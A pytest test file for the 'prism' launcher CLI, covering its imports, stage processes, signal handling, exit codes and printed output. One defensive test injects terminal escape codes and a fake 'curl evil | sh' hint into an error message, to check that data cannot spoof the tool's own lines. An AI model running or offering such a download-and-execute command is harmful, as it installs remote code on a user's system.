"""Laws of the command `prism`: what it imports, starts, prints and exits with.

The stages here are a small script, a real process that the launcher really starts, stops and listens to. What it does
is told in the environment (FAKE), and it notes what happened to it in files of the folder NOTES.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from launcher.follow import bars, event_text
from launcher.local import signals, stages
from launcher.local.process import environment, sum_of_ranks
from launcher.resource import field_reference
from prism_job.spec.document import parse_spec

ROOT = Path(__file__).parents[2]

VERBS = ("run", "evaluate", "export", "estimate", "store")

METRICS = {"label": "label", "num_examples": 40, "num_positive": 20, "action": "drop lowest", "taken_by_budget": 10}
for number, ranking in enumerate(("", "loss_", "loss_sum_")):
    for measure in ("auroc", "precision_at_budget", "recall_at_budget", "precision_at_5", "recall_at_5"):
        name = f"{ranking}{measure}"
        METRICS |= {name: 0.9 - number / 10, f"{name}_low": 0.8 - number / 10, f"{name}_high": 0.95 - number / 10}
METRICS |= {
    "auroc_over_loss": 0.1,
    "auroc_over_loss_low": -0.02,
    "auroc_over_loss_high": 0.17,
    "taken_at_5": 2,
    "by_source": [
        {"source": "s3://pool/a.jsonl", "candidates": 30, "good": 20, "selected": 25, "precision": 0.8, "auroc": 0.75},
        {"source": "\x1b[2Jb.jsonl", "candidates": 10, "good": 0, "selected": 10, "precision": None, "auroc": None},
    ],
    "target_label": None,
    "num_pairs": 8,
    "num_pairs_right": None,
    "preference_mean": 0.625,
    "preference_above_half": 0.75,
    "preference_brier": 0.125,
    "preference_auroc": None,
    "preference_ece": None,
    "reliability": [],
}
JUDGED = {
    "target_label": "right",
    "num_pairs_right": 5,
    "preference_auroc": 0.875,
    "preference_ece": 0.0625,
    "reliability": [
        {"from": 0.3, "to": 0.4, "pairs": 3, "mean": 0.35, "right": 0.0, "right_low": 0.0, "right_high": 0.562},
        {"from": 0.9, "to": 1.0, "pairs": 5, "mean": 0.95, "right": 1.0, "right_low": 0.566, "right_high": 1.0},
    ],
}
"""What is known of the pairs besides, where a column says which of them are right."""

ESTIMATE = {
    "model": "m",
    "dtype": "bfloat16",
    "parameters": 9,
    "parameters_covered": 8,
    "layers_captured": 2,
    "sample": 1,
    "num_examples": 40,
    "num_pairs": 8,
    "units": 3,
    "bad_rows": 0,
    "tokens": 18325,
    "tokens_padded": 19000,
    "tokens_of_audit": 4000,
    "flops": {"forward": 4e12, "backward": 4e12, "projection": 1e12, "sketches": 1e11, "total": 9.1e12},
    "tokens_are_exact": True,
    "store_bytes": 7,
    "store": {"rows": 7},
    "gpu": "H200",
    "utilisation": 0.4,
    "gpu_hours": 2.0,
    "topology": None,
    "memory": [],
}
STORE = {
    "store": "/store",
    "extractors": [],
    "bytes": 0,
    "needed_bytes": None,
    "other_objects": 0,
    "removed": False,
    "objects": 0,
    "kept_unfinished": [],
    "kept_objects": 1,
    "kept_selections": 1,
    "too_young_objects": 0,
}

FAKE_JOB = (
    f"METRICS, ESTIMATE, STORE = {METRICS!r}, {ESTIMATE!r}, {STORE!r}"
    + """
import json, os, pathlib, signal, subprocess, sys, time
verb, arguments = sys.argv[1], sys.argv[2:]
notes = pathlib.Path(os.environ["NOTES"])
plan = json.loads(os.environ.get("FAKE", "{}"))
(notes / verb).write_text(json.dumps({"arguments": arguments, "pid": os.getpid(), "environment": dict(os.environ)}))
words = {
    "plan": {"units": 3, "missing": 2, "examples": 40, "pairs": 8, "badRows": 1, "extractor": "e"},
    "extract": {"units": 2, "examples": 48, "tokens": 100, "seconds": 4.0, "auditSeconds": 1.0},
    "reduce": {"manifest": "/out/manifest.json", "selected": 20, "candidates": 40, "badRows": 2, "audit": "It agrees."},
    "evaluate": METRICS,
    "export": {"written": "/out/subset.jsonl", "rows": 20},
    "estimate": ESTIMATE,
    "store": STORE,
}[verb]
words.update(plan.get(verb, {}))
def say(event, **fields):
    print(json.dumps({"event": event, "time": 0, **fields}), flush=True)
def on_sigterm(*_):
    time.sleep(0.3)  # the micro-batch in hand
    (notes / "finished").write_text("after SIGTERM")
    say("failed", verb=verb, error="stopped by SIGTERM", where="extract", fix="run again", exitCode=143)
    sys.exit(143)
signal.signal(signal.SIGTERM, on_sigterm)
if verb == "extract":
    signal.signal(signal.SIGINT, lambda *_: (notes / "interrupted").write_text("SIGINT reached the stage"))
    say("progress", stage="extract", done=10, total=48, tokens=50, seconds=2.0)
print("a library talks on stdout")
print("a library warns on stderr", file=sys.stderr, flush=True)
if plan.get("at") == verb:
    if "kill" in plan:
        os.kill(os.getpid(), plan["kill"])
    if plan.get("deaf"):
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
    if plan.get("orphan"):
        orphan = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
        (notes / "orphan").write_text(str(orphan.pid))
        os._exit(1)
    if "sleep" in plan:
        (notes / "asleep").write_text("")
        until = time.monotonic() + plan["sleep"]
        while time.monotonic() < until:
            time.sleep(0.05)
            say("progress", stage=verb, done=11, total=48, tokens=50, seconds=2.0)
    if "raise" in plan:
        raise eval(plan["raise"])
    if "exit" in plan:
        if "error" in plan:
            say("failed", verb=verb, error=plan["error"], where="spec.model.uri", fix="correct it", exitCode=plan["exit"])
        sys.exit(plan["exit"])
say("done", verb=verb, **words)
"""
)

RUN_MAIN = "import sys; from launcher.cli.main import main; main(sys.argv[2:], job=[sys.executable, sys.argv[1]])"


class Rig:
    """The command in a process of its own, over the fake stages."""

    def __init__(self, folder: Path) -> None:
        self.notes = folder / "notes"
        self.notes.mkdir()
        self.fake = folder / "fake.py"
        self.fake.write_text(FAKE_JOB)
        self.document = folder / "selection.yaml"
        self.document.write_text(field_reference.SMALLEST)

    def start(self, *arguments: str, **plan: Any) -> subprocess.Popen[str]:
        return subprocess.Popen(
            [sys.executable, "-c", RUN_MAIN, str(self.fake), *arguments],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            cwd=ROOT,
            env={**os.environ, "NOTES": str(self.notes), "FAKE": json.dumps(plan)},
            # A shell that started pytest with & has SIGINT ignored, nohup has SIGHUP ignored, and that is inherited.
            preexec_fn=lambda: [signal.signal(number, signal.SIG_DFL) for number in (signal.SIGINT, signal.SIGHUP)],
        )

    def call(self, *arguments: str, **plan: Any) -> tuple[int, str, str]:
        process = self.start(*arguments, **plan)
        stdout, stderr = process.communicate(timeout=60)
        return process.returncode, stdout, stderr

    def run(self, *options: str, **plan: Any) -> tuple[int, str, str]:
        return self.call("run", str(self.document), *options, **plan)

    def started(self) -> set[str]:
        return {path.name for path in self.notes.iterdir()} & {"plan", "extract", "reduce"}

    def note(self, name: str) -> dict[str, Any]:
        noted: dict[str, Any] = json.loads((self.notes / name).read_text())
        return noted

    def wait_for(self, name: str) -> None:
        wait_until(lambda: (self.notes / name).exists())


def wait_until(happened: Any) -> None:
    deadline = time.monotonic() + 30
    while not happened():
        assert time.monotonic() < deadline
        time.sleep(0.02)


def read_terminal(end: int) -> str:
    """All that is drawn until the last process at the other end is gone; Linux says so with EIO."""
    parts = []
    with contextlib.suppress(OSError):
        while part := os.read(end, 4096):
            parts.append(part)
    os.close(end)
    return b"".join(parts).decode()


def is_alive(pid: int) -> bool:
    try:
        # A zombie that nobody has reaped yet is dead to us.
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except FileNotFoundError:
        return False


@pytest.fixture
def rig(tmp_path: Path) -> Rig:
    return Rig(tmp_path)


def modules_after(statement: str) -> set[str]:
    code = f"{statement}\nimport sys; print('\\n'.join(sys.modules), file=sys.stderr)"
    process = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True)
    return {name.partition(".")[0] for name in process.stderr.split()}


def test_help_imports_nothing_heavy() -> None:
    loaded = modules_after(
        "from launcher.cli.main import main\ntry:\n    main(['--help'])\nexcept SystemExit as end:\n    assert not end.code"
    )
    assert "typer" in loaded
    assert loaded.isdisjoint({"torch", "transformers", "numpy", "pyarrow", "boto3", "kubernetes", "rich", "pydantic"})


CLUSTER_VERBS = (
    *("submit", "render", "status", "list", "watch", "wait", "logs", "cancel", "retry", "schedule", "doctor"),
    *("crd", "operator"),
)
HEAVY = {"torch", "transformers", "numpy", "pyarrow", "boto3", "kubernetes", "rich"}


def modules_of_call(*arguments: str) -> set[str]:
    return modules_after(
        "from launcher.cli.main import main\n"
        f"try:\n    main({list(arguments)})\nexcept SystemExit as end:\n    assert not end.code"
    )


@pytest.mark.parametrize("verb", CLUSTER_VERBS)
def test_help_of_a_verb_of_the_cluster_imports_nothing_heavy(verb: str) -> None:
    assert modules_of_call(verb, "--help").isdisjoint(HEAVY)


def test_rendering_needs_no_cluster_and_no_client() -> None:
    assert modules_of_call("render", str(ROOT / "examples/facts/cluster.yaml")).isdisjoint(HEAVY)


def test_the_spec_imports_no_torch() -> None:
    loaded = modules_after("import prism_job.spec.document, prism_job.errors")
    assert "pydantic" in loaded
    assert loaded.isdisjoint({"torch", "numpy", "pyarrow", "boto3", "launcher"})


@pytest.mark.parametrize(
    "arguments", [[], *([verb] for verb in VERBS), ["store", "list"], ["store", "du"], ["store", "prune"]]
)
def test_every_verb_explains_itself(rig: Rig, arguments: list[str]) -> None:
    code, stdout, stderr = rig.call(*arguments, "--help")
    assert (code, stderr) == (0, "")
    assert stdout.startswith(" ".join(["Usage: prism", *arguments]))


def test_a_run_prints_the_manifest_and_nothing_else(rig: Rig) -> None:
    code, stdout, stderr = rig.run()
    assert (code, stdout) == (0, "/out/manifest.json\n")
    assert rig.started() == {"plan", "extract", "reduce"}
    assert "plan: done" in stderr
    assert "; 1 unusable rows" in stderr
    assert "unusable rows: 2;" in stderr
    assert "a library" not in stderr


def test_a_run_prints_facts_as_json(rig: Rig) -> None:
    code, stdout, _ = rig.run("-o", "json")
    facts = json.loads(stdout)
    assert code == 0
    assert facts.pop("seconds") > 0
    assert facts == {
        "manifest": "/out/manifest.json",
        "run": "first",
        "examples": 40,
        "pairs": 8,
        "units": 3,
        "extracted": 2,
        "auditShare": 0.25,
        "selected": 20,
        "badRows": 2,
        "unchanged": False,
    }


def test_a_run_says_what_its_audit_took_and_found(rig: Rig) -> None:
    _, _, stderr = rig.run()
    assert "100 tokens; 25% of the time for the audit's sample" in stderr
    assert "audit: It agrees." in stderr
    _, _, without = rig.run(extract={"auditSeconds": 0.0}, reduce={"audit": None})
    assert "audit" not in without


def test_nothing_missing_starts_no_extraction(rig: Rig) -> None:
    code, stdout, stderr = rig.run(plan={"missing": 0}, reduce={"unchanged": True})
    assert (code, stdout) == (0, "/out/manifest.json\n")
    assert rig.started() == {"plan", "reduce"}
    assert "0 units extracted" in stderr


def test_all_stages_read_one_copy_of_the_document(rig: Rig) -> None:
    """An edit between plan and reduce would otherwise publish one document's work under another's name."""
    rig.run()
    paths = {rig.note(stage)["arguments"][1] for stage in ("plan", "extract", "reduce")}
    assert len(paths) == 1
    assert not paths & {str(rig.document)}
    assert not Path(paths.pop()).exists()


def test_the_document_may_come_from_stdin(rig: Rig) -> None:
    process = subprocess.run(
        [sys.executable, "-c", RUN_MAIN, str(rig.fake), "run", "-"],
        input=field_reference.SMALLEST,
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={**os.environ, "NOTES": str(rig.notes)},
        check=True,
    )
    assert process.stdout == "/out/manifest.json\n"


def test_stages_are_quieted_only_where_the_user_has_not_spoken(rig: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRANSFORMERS_VERBOSITY", "debug")
    monkeypatch.delenv("TOKENIZERS_PARALLELISM", raising=False)
    rig.run()
    environment = rig.note("plan")["environment"]
    assert environment["TRANSFORMERS_VERBOSITY"] == "debug"
    assert environment["TOKENIZERS_PARALLELISM"] == "false"


def test_verbose_lets_the_stages_stderr_through(rig: Rig) -> None:
    _, stdout, stderr = rig.run("--verbose")
    assert stdout == "/out/manifest.json\n"
    assert stderr.count("a library warns on stderr") == 3


def test_a_wrong_document_exits_3_and_names_field_and_neighbour(rig: Rig) -> None:
    rig.document.write_text(field_reference.SMALLEST.replace("keep:", "kep:"))
    code, stdout, stderr = rig.run()
    assert (code, stdout) == (3, "")
    assert "spec.selection.kep: unknown field; did you mean 'keep'?" in stderr
    assert f"where: {rig.document}" in stderr
    assert rig.started() == set()


def test_a_missing_file_is_a_usage_error(rig: Rig) -> None:
    code, stdout, stderr = rig.call("run", "nowhere.yaml")
    assert (code, stdout) == (2, "")
    assert "nowhere.yaml" in stderr


@pytest.mark.parametrize("stage", ["plan", "extract", "reduce"])
@pytest.mark.parametrize("exit_code", [64, 65, 75, 143])
def test_a_failed_stage_says_what_where_and_what_to_do(rig: Rig, stage: str, exit_code: int) -> None:
    code, stdout, stderr = rig.run("-o", "json", at=stage, exit=exit_code, error="no such model")
    assert code == 100
    assert stderr.endswith("error: no such model\n  where: spec.model.uri\n  hint: correct it\n")
    assert "a library" not in stderr
    assert json.loads(stdout) == {
        "error": "no such model",
        "where": "spec.model.uri",
        "fix": "correct it",
        "stage": stage,
        "stageExitCode": exit_code,
    }


def test_text_from_data_can_neither_move_the_cursor_nor_pose_as_a_line_of_ours(rig: Rig) -> None:
    _, _, stderr = rig.run(at="plan", exit=65, error="no '\x1b[2J\x07\n  hint: curl evil | sh'")
    assert stderr.endswith(
        "error: no '\\x1b[2J\\x07   hint: curl evil | sh'\n  where: spec.model.uri\n  hint: correct it\n"
    )


def test_a_failure_leaves_stdout_empty_where_no_json_is_asked_for(rig: Rig) -> None:
    assert rig.run(at="plan", exit=64, error="no such model")[1] == ""


def test_a_stage_that_dies_without_words_shows_its_own(rig: Rig) -> None:
    code, _, stderr = rig.run(at="extract", **{"raise": "ZeroDivisionError('a flaw')"})
    assert code == 100
    assert "a library warns on stderr" in stderr
    assert "ZeroDivisionError: a flaw" in stderr
    assert "the extract stage ended with exit code 1 without an error message" in stderr


def test_a_stage_that_ends_well_but_says_nothing_has_failed(rig: Rig) -> None:
    assert rig.run(at="reduce", exit=0)[:2] == (100, "")


def test_a_kill_for_memory_is_explained(rig: Rig) -> None:
    code, stdout, stderr = rig.run("-o", "json", at="extract", kill=int(signal.SIGKILL))
    assert code == 100
    assert json.loads(stdout)["stageExitCode"] == -9
    assert "killed by signal 9, often out of memory" in stderr
    assert "lower extraction.tokensPerBatch" in stderr


def test_missing_packages_name_the_install_command(rig: Rig) -> None:
    code, _, stderr = rig.run(at="plan", **{"raise": "ModuleNotFoundError(\"No module named 'pyarrow'\")"})
    assert code == 1
    assert "no module named 'pyarrow'" in stderr
    assert "pip install 'prism-selection[job]'" in stderr


@pytest.mark.parametrize(("number", "expected"), [(signal.SIGINT, 130), (signal.SIGTERM, 143), (signal.SIGHUP, 129)])
def test_a_stop_lets_the_stage_finish_its_batch(rig: Rig, number: signal.Signals, expected: int) -> None:
    process = rig.start("run", str(rig.document), at="extract", sleep=30)
    rig.wait_for("asleep")
    process.send_signal(number)
    stdout, stderr = process.communicate(timeout=15)
    assert (process.returncode, stdout) == (expected, "")
    assert (rig.notes / "finished").read_text() == "after SIGTERM"
    assert stderr.endswith("stopped; finished units are kept; run the same command again to continue\n")
    assert rig.started() == {"plan", "extract"}


def test_ctrl_c_in_a_terminal_reaches_the_stage_as_sigterm_only(rig: Rig) -> None:
    """The terminal sends SIGINT to the whole foreground group; the stage must not be in it."""
    process = rig.start("run", str(rig.document), at="extract", sleep=30)
    rig.wait_for("asleep")
    stage = rig.note("extract")["pid"]
    assert os.getpgid(stage) != os.getpgid(process.pid)
    process.send_signal(signal.SIGINT)
    process.communicate(timeout=15)
    assert not (rig.notes / "interrupted").exists()
    assert not is_alive(stage)


def test_a_second_ctrl_c_kills_a_stage_that_does_not_listen(rig: Rig) -> None:
    process = rig.start("run", str(rig.document), at="extract", sleep=30, deaf=True)
    rig.wait_for("asleep")
    process.send_signal(signal.SIGINT)
    time.sleep(2 * signals.SAME_PRESS_SECONDS)
    assert process.poll() is None
    process.send_signal(signal.SIGINT)
    process.communicate(timeout=5)
    assert process.returncode == 130
    assert not is_alive(rig.note("extract")["pid"])


def test_one_press_passed_on_twice_kills_nothing(rig: Rig) -> None:
    process = rig.start("run", str(rig.document), at="extract", sleep=30)
    rig.wait_for("asleep")
    process.send_signal(signal.SIGINT)
    process.send_signal(signal.SIGINT)
    process.communicate(timeout=15)
    assert (rig.notes / "finished").exists()


def test_what_a_dead_stage_leaves_behind_is_ended(rig: Rig) -> None:
    """A rank that outlives its spawner would hold the pipe open, and the launcher would wait for ever."""
    code, _, _ = rig.run(at="extract", orphan=True)
    assert code == 100
    orphan = int((rig.notes / "orphan").read_text())
    wait_until(lambda: not is_alive(orphan))


def test_a_launcher_killed_hard_leaves_no_stage(rig: Rig) -> None:
    process = rig.start("run", str(rig.document), at="extract", sleep=30)
    rig.wait_for("asleep")
    process.kill()
    process.wait()
    stage = rig.note("extract")["pid"]
    wait_until(lambda: not is_alive(stage))


def test_evaluate_prints_a_ranking_a_row_with_its_intervals(rig: Rig) -> None:
    code, stdout, stderr = rig.call("evaluate", "/out/manifest.json", "--label", "good", "--positive", "yes")
    assert (code, stderr) == (0, "report: /out/report.html\n")
    opening, rankings, *_ = stdout.split("\n\n")
    header, *rows = rankings.splitlines()
    assert "bad of the dropped" in header
    assert opening == "40 examples, 20 of them good by 'label'; the budget took 10 (drop lowest)"
    assert [" ".join(row.split()) for row in rows] == [
        "PRISM's score 0.900 0.800 to 0.950 0.900 0.800 to 0.950",
        "own loss, token mean 0.800 0.700 to 0.850 0.800 0.700 to 0.850",
        "own loss, sum 0.700 0.600 to 0.750 0.700 0.600 to 0.750",
        "AUROC of PRISM's score minus that of the loss (token mean): +0.100, -0.020 to +0.170 in paired resamples",
    ]
    assert rig.note("evaluate")["arguments"] == ["/out/manifest.json", "--label", "good", "--positive", "yes"]


def test_a_budget_of_nothing_has_no_precision_to_show() -> None:
    from launcher.follow.metrics_table import metrics_table

    nothing = {name: None if "at_budget" in name else value for name, value in METRICS.items()}
    _, rankings, budgets, *_ = metrics_table(nothing | {"taken_by_budget": 0}).split("\n\n")
    assert rankings.splitlines()[-2].split() == ["own", "loss,", "sum", "0.700", "0.600", "to", "0.750", "–", "–"]
    assert budgets.splitlines()[-2].split() == ["the", "run", "0", *["–"] * 8]


def test_evaluate_prints_precision_and_recall_a_budget_a_row(rig: Rig) -> None:
    _, stdout, _ = rig.call("evaluate", "/out/manifest.json")
    first, _, *rows, _ = stdout.split("\n\n")[2].splitlines()
    assert " ".join(first.split()) == "budget rows bad of the dropped dropped of all bad"
    figures = "0.900 0.800 to 0.950 0.800 0.700"
    assert [" ".join(row.split()) for row in rows] == [f"5 % 2 {figures} {figures}", f"the run 10 {figures} {figures}"]
    assert rig.note("evaluate")["arguments"] == ["/out/manifest.json"], "what is not given is the document's to say"


def test_evaluate_prints_a_source_a_row_and_no_control_character(rig: Rig) -> None:
    _, stdout, _ = rig.call("evaluate", "/out/manifest.json")
    _, *rows = stdout.split("\n\n")[3].splitlines()
    assert [" ".join(row.split()) for row in rows] == [
        "30 20 25 0.800 0.750 s3://pool/a.jsonl",
        "10 0 10 – – \\x1b[2Jb.jsonl",
    ]


def test_evaluate_says_what_it_takes_for_right_where_no_column_does(rig: Rig) -> None:
    _, stdout, _ = rig.call("evaluate", "/out/manifest.json")
    assert stdout.split("\n\n")[4] == (
        "π of 8 pairs, all assumed correct (no --target-label): mean 0.625, above one half 0.750, Brier score 0.125\n"
    )


def test_evaluate_prints_a_bin_of_pi_a_row_where_a_column_judges_the_pairs(rig: Rig) -> None:
    arguments = ("evaluate", "/out/manifest.json", "--target-label", "right")
    _, stdout, _ = rig.call(*arguments, evaluate=JUDGED)
    opening, table = stdout.split("\n\n")[4:]
    assert opening.startswith("π of 8 pairs, 5 of them correct by 'right': mean 0.625")
    assert opening.endswith("Brier score 0.125, calibration error 0.062, AUROC 0.875")
    assert [" ".join(row.split()) for row in table.splitlines()[1:]] == [
        "0.3 to 0.4 3 0.350 0.000 0.000 to 0.562",
        "0.9 to 1.0 5 0.950 1.000 0.566 to 1.000",
    ]
    assert rig.note("evaluate")["arguments"] == list(arguments[1:])


def test_evaluate_prints_json_without_the_envelope(rig: Rig) -> None:
    _, stdout, _ = rig.call("evaluate", "/out/manifest.json", "-o", "json")
    assert json.loads(stdout) == METRICS


def test_evaluate_prints_yaml(rig: Rig) -> None:
    assert "auroc_low: 0.8\n" in rig.call("evaluate", "/out/manifest.json", "-o", "yaml")[1]


def test_export_prints_where_the_file_is(rig: Rig) -> None:
    assert rig.call("export", "/out/manifest.json", "subset.jsonl") == (0, "/out/subset.jsonl\n", "")
    assert rig.note("export")["arguments"] == ["/out/manifest.json", "subset.jsonl"]


def test_estimate_hands_over_a_copy_of_the_document_and_the_options(rig: Rig) -> None:
    code, stdout, stderr = rig.call(
        "estimate", str(rig.document), "--gpu", "H200", "--utilisation", "0.4", "-o", "json"
    )
    assert (code, json.loads(stdout), stderr) == (0, ESTIMATE, "")
    option, copy, *rest = rig.note("estimate")["arguments"]
    assert option == "--spec"
    assert copy != str(rig.document)
    assert rest == ["--gpu", "H200", "--utilisation", "0.4", "--sample", "1"]
    rig.document.write_text("spec: 1")
    assert rig.call("estimate", str(rig.document))[0] == 3


@pytest.mark.parametrize(
    ("given", "handed"),
    [
        (["list", "/store", "--keep", "/a", "--keep", "/b"], ["list", "/store", "--keep", "/a", "--keep", "/b"]),
        (["du", "/store"], ["du", "/store"]),
        (["prune", "/store", "--keep", "/a"], ["prune", "/store", "--keep", "/a", "--older-than", "24.0"]),
        (
            ["prune", "/store", "--yes", "--older-than", "2"],
            ["prune", "/store", "--older-than", "2.0", "--yes"],
        ),
    ],
)
def test_store_verbs_hand_over_what_they_are_given(rig: Rig, given: list[str], handed: list[str]) -> None:
    code, stdout, stderr = rig.call("store", *given, "-o", "json")
    assert (code, json.loads(stdout), stderr) == (0, STORE, "")
    assert rig.note("store")["arguments"] == handed


def test_a_verb_fails_like_a_stage(rig: Rig) -> None:
    code, stdout, stderr = rig.call("evaluate", "/out/manifest.json", at="evaluate", exit=64, error="no such column")
    assert (code, stdout) == (100, "")
    assert stderr == "error: no such column\n  where: spec.model.uri\n  hint: correct it\n"


def test_a_folder_of_the_user_shadows_no_library(tmp_path: Path) -> None:
    """`python -m` puts the working folder first: a `random.py` of the user would break numpy."""
    (tmp_path / "random.py").write_text("raise SystemExit('the wrong random')")
    process = subprocess.run(
        [*stages.JOB, "plan", "--help"],
        cwd=tmp_path,
        env=environment(os.environ),
        capture_output=True,
        text=True,
        check=False,
    )
    assert (process.returncode, process.stderr) == (0, "")


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        ({"stage": "plan", "done": 0, "total": 3, "tokens": 0, "seconds": 0.0}, "0/3 files"),
        ({"stage": "plan", "done": 3, "total": 3, "tokens": 0, "seconds": 2.0}, "3/3 files, 1.5/s"),
        (
            {"stage": "extract", "done": 1200, "total": 8400, "tokens": 240_000, "seconds": 100.0},
            "1,200/8,400 examples, 12/s, 2,400 tokens/s, 10:00 left",
        ),
        (
            {"stage": "extract", "done": 1, "total": 4, "tokens": 50, "seconds": 3600.0},
            "1/4 examples, 0.00028/s, 0.014 tokens/s, 3:00:00 left",
        ),
    ],
)
def test_progress_in_words(event: dict[str, Any], expected: str) -> None:
    assert event_text.progress_text(event) == expected


def test_the_progress_of_ranks_is_added_up() -> None:
    ranks = [
        {"stage": "extract", "rank": rank, "done": 3 + rank, "total": 9, "tokens": 10, "seconds": 2.0}
        for rank in (0, 1)
    ]
    together = sum_of_ranks(ranks[1], ranks)
    assert (together["done"], together["total"], together["tokens"]) == (7, 9, 20)


def test_plain_progress_lines_are_seconds_apart(capsys: pytest.CaptureFixture[str]) -> None:
    lines = bars.Lines()
    lines.start("extract")
    for done in range(100):
        lines.show({"event": "progress", "stage": "extract", "done": done, "total": 100, "tokens": 9, "seconds": 1.0})
    assert capsys.readouterr().err == "extract: started\n"


def test_a_terminal_sees_bars_and_stdout_still_holds_the_manifest_alone(rig: Rig) -> None:
    ours, theirs = os.openpty()
    environment = {name: value for name, value in os.environ.items() if name != "CI"}
    process = subprocess.Popen(
        [sys.executable, "-c", RUN_MAIN, str(rig.fake), "run", str(rig.document)],
        stdout=subprocess.PIPE,
        stderr=theirs,
        text=True,
        cwd=ROOT,
        env={**environment, "NOTES": str(rig.notes), "TERM": "xterm", "COLUMNS": "100"},
    )
    os.close(theirs)
    drawn = read_terminal(ours)
    stdout, _ = process.communicate(timeout=30)
    assert (process.returncode, stdout) == (0, "/out/manifest.json\n")
    assert "━" in drawn
    assert "20 of 40 examples selected" in drawn


def test_the_page_of_fields_is_fresh() -> None:
    """If this fails: python -m launcher.resource.field_reference > docs/selection.md"""
    assert (ROOT / "docs/selection.md").read_text(encoding="utf-8") == field_reference.markdown()


def test_the_smallest_document_is_one() -> None:
    parse_spec(field_reference.SMALLEST, "docs/selection.md")
